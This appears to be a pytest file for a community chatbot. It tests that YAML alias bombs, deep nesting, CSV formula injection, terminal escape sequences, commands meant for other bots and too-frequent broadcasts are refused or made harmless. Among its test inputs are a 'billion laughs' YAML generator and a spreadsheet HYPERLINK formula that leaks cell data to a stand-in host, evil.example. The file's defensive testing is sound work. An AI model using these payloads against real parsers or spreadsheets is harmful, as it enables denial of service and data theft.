"""Inputs that cannot hurt: alias bombs, spreadsheet formulas, terminal escapes, commands for
other bots and broadcasts repeated every minute."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import time
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.config import RolesConfig, Settings
from bot.errors import ConfigError
from bot.faq.entries import load_faq
from bot.faq.meaning import ModelStatus
from bot.faq.text import TextAnalyzer
from bot.operator_files import parse_yaml
from bot.schedule.book import load_schedules
from tests.cli_helpers import yishiting
from tests.conftest import REPO
from tests.fakes import FakeClock
from tests.harness import Bot, start_bot
from tests.scheduled import button

ZONE = ZoneInfo("Asia/Shanghai")


def alias_bomb(levels: int = 9) -> str:
    """The "billion laughs": nine levels of nine aliases, 9⁹ values once expanded."""
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for n in range(1, levels + 1):
        lines.append(f"l{n}: &l{n} [" + ", ".join([f"*l{n - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


FAQ_BOMB = "version: 1\n" + alias_bomb() + "entries:\n  - id: x\n    questions: [*l9]\n"


# ---- one YAML loader with limits for every operator file ----------------------------------


def test_an_alias_bomb_is_refused_in_well_under_a_second_in_every_operator_file(
    tmp_path: Path,
) -> None:
    faq = tmp_path / "faq.yaml"
    faq.write_text(FAQ_BOMB, encoding="utf-8")
    schedules = tmp_path / "schedules"
    schedules.mkdir()
    (schedules / "bomb.yaml").write_text("version: 1\n" + alias_bomb(), encoding="utf-8")
    settings = tmp_path / "yishiting.yaml"
    settings.write_text(alias_bomb(), encoding="utf-8")
    for load, path in (
        (lambda: load_faq(faq), faq),
        (lambda: load_schedules(schedules, ZONE), schedules / "bomb.yaml"),
        (lambda: parse_yaml(settings.read_text(), str(settings)), settings),
    ):
        started = time.perf_counter()
        with pytest.raises(ConfigError, match="alias bomb") as caught:
            load()
        assert time.perf_counter() - started < 1.0
        assert str(caught.value).startswith(f"{path}:")

    for args in (
        ("faq", "check", "--faq", str(faq)),
        ("--config", str(settings), "doctor"),
        ("--config", str(_config_with_schedules(tmp_path, schedules)), "schedules", "check"),
    ):
        result = yishiting(*args)
        assert result.returncode == 2, (args, result.stdout, result.stderr)
        (line,) = result.stderr.strip().splitlines()
        assert "alias bomb" in line and "Traceback" not in result.stderr, line


def _config_with_schedules(tmp_path: Path, schedules: Path) -> Path:
    config = tmp_path / "with-schedules.yaml"
    config.write_text(json.dumps({"schedules_dir": str(schedules)}), encoding="utf-8")
    return config


def test_a_value_that_contains_itself_a_deep_nesting_and_a_huge_file_are_refused(
    tmp_path: Path,
) -> None:
    with pytest.raises(ConfigError, match="contains it"):
        parse_yaml("a: &a [*a]\n", "self.yaml")
    with pytest.raises(ConfigError, match="nested too deeply"):
        parse_yaml("a: " + "[" * 5000 + "]" * 5000 + "\n", "deep.yaml")
    huge = tmp_path / "faq.yaml"
    with huge.open("w", encoding="utf-8") as fh:
        fh.write("version: 1\nentries: []\n# " + "x" * 6_000_000 + "\n")
    with pytest.raises(ConfigError, match="an operator file may have"):
        load_faq(huge)
    anchors = "base: &b {a: 1}\nuse: {<<: *b, c: 2}\n"  # ordinary anchors still work
    assert parse_yaml(anchors, "ok.yaml") == {"base": {"a": 1}, "use": {"a": 1, "c": 2}}


async def test_a_running_bot_whose_faq_became_a_bomb_keeps_answering_and_tells_admins(
    tmp_path: Path, analyzer: TextAnalyzer, sentence_model: ModelStatus
) -> None:
    faq = tmp_path / "faq.yaml"
    shutil.copy(REPO / "faq.yaml", faq)
    settings = Settings(
        data_dir=tmp_path / "data",
        faq=faq,
        roles=RolesConfig(admins=("fake:admin",), trusted_role_channels=()),
    )
    bot = await start_bot(settings, FakeClock(), analyzer, sentence_model)
    try:
        (before,) = await bot.chat("zhang").say("医保怎么交")
        faq.write_text(FAQ_BOMB, encoding="utf-8")
        stat = faq.stat()
        os.utime(faq, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
        started = time.perf_counter()
        await bot.app._watch_once(flush=True)  # what the running bot's watch loop does
        assert time.perf_counter() - started < 1.0
        (notice,) = bot.texts("fake:admin")
        assert "继续使用旧版本" in notice and "alias bomb" in notice
        (after,) = await bot.chat("zhang").say("医保怎么交")
        assert after.text == before.text  # the old FAQ keeps answering
    finally:
        bot.close()


# ---- CSV cells and terminal output ----------------------------------------------------------


def test_formulas_are_inert_in_csv_and_escapes_never_reach_the_terminal(tmp_path: Path) -> None:
    data = tmp_path / "data"
    story = "\n".join(
        [
            ":in 丰仓小区群",
            ":as resident @SUM(1+1)",
            '/report =HYPERLINK("http://evil.example/?"&A1,"点我") 路灯',
            ":in 粮库宿舍群",
            ":as resident 居民",
            "/report 3号楼\x1b[2J\x1b]0;pwned\x07路灯不亮\u202e",
        ]
    )
    made = yishiting("chat", "--data", str(data), stdin=story + "\n")
    assert made.returncode == 0, made.stderr
    assert "\x1b" not in made.stdout  # the console chat itself prints no escapes either

    export = yishiting("tickets", "export", "--csv", "--data", str(data))
    rows = list(csv.DictReader(io.StringIO(export.stdout.removeprefix("\ufeff"))))
    assert rows[0]["text"].startswith("'=HYPERLINK(")
    assert rows[0]["reporters"] == "'@SUM(1+1)"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())

    listing = yishiting("tickets", "list", "--data", str(data))
    shown = yishiting("tickets", "show", "1002", "--data", str(data))
    for output in (listing.stdout, shown.stdout):
        assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
    assert "3号楼[2J]0;pwned路灯不亮" in shown.stdout  # the words stay, the controls go


# ---- commands for another bot ----------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["!report@otherbot 西边墙倒了", " /report@otherbot 西边墙倒了", "！report@otherbot 西边墙倒了"],
)
async def test_a_command_for_another_bot_is_ignored_in_a_group(bot: Bot, text: str) -> None:
    assert await bot.chat("zhang", group="丰仓小区群").say(text) == []
    assert bot.tickets.count() == 0


async def test_a_command_for_another_bot_in_private_is_an_unknown_command(bot: Bot) -> None:
    (reply,) = await bot.chat("zhang").say("/help@otherbot")
    assert "help@otherbot" in reply.text and "/help" in reply.text


# ---- repeating broadcasts --------------------------------------------------------------------


async def test_a_broadcast_repeated_every_few_minutes_needs_its_own_confirmation(
    sched: Bot,
) -> None:
    admin = sched.chat("admin")
    (preview,) = await admin.say('/broadcast cron "*/5 * * * *" to all: 测试广播')
    assert "最短每 5 分钟就发一次，一天 288 条" in preview.text
    assert [b.label for b in preview.buttons] == ["确认：每 5 分钟发一次", "取消"]
    number = preview.buttons[0].action.rpartition(":")[2]
    (forged,) = await admin.say(action=f"bc:confirm:{number}")  # the ordinary yes is not enough
    assert "失效" in forged.text
    (done,) = await admin.say(action=button(preview, "每 5 分钟"))
    assert f"已安排广播 {number}" in done.text

    (daily,) = await admin.say('/broadcast cron "0 9 * * *" to all: 每日提醒')
    assert "最短每" not in daily.text
    assert [b.label for b in daily.buttons] == ["确认发送", "取消"]


def test_a_schedules_file_repeating_more_than_hourly_is_refused(sched_settings: Settings) -> None:
    assert sched_settings.schedules_dir is not None
    (sched_settings.schedules_dir / "spam.yaml").write_text(
        "version: 1\nbroadcasts:\n  - id: spam\n    cron: '* * * * *'\n    targets: [all]\n"
        "    text: {zh-CN: hi}\n",
        encoding="utf-8",
    )
    with pytest.raises(ConfigError) as caught:
        load_schedules(sched_settings.schedules_dir, ZONE)
    message = str(caught.value)
    assert "spam.yaml" in message and "field 'cron'" in message
    assert "at most once an hour" in message
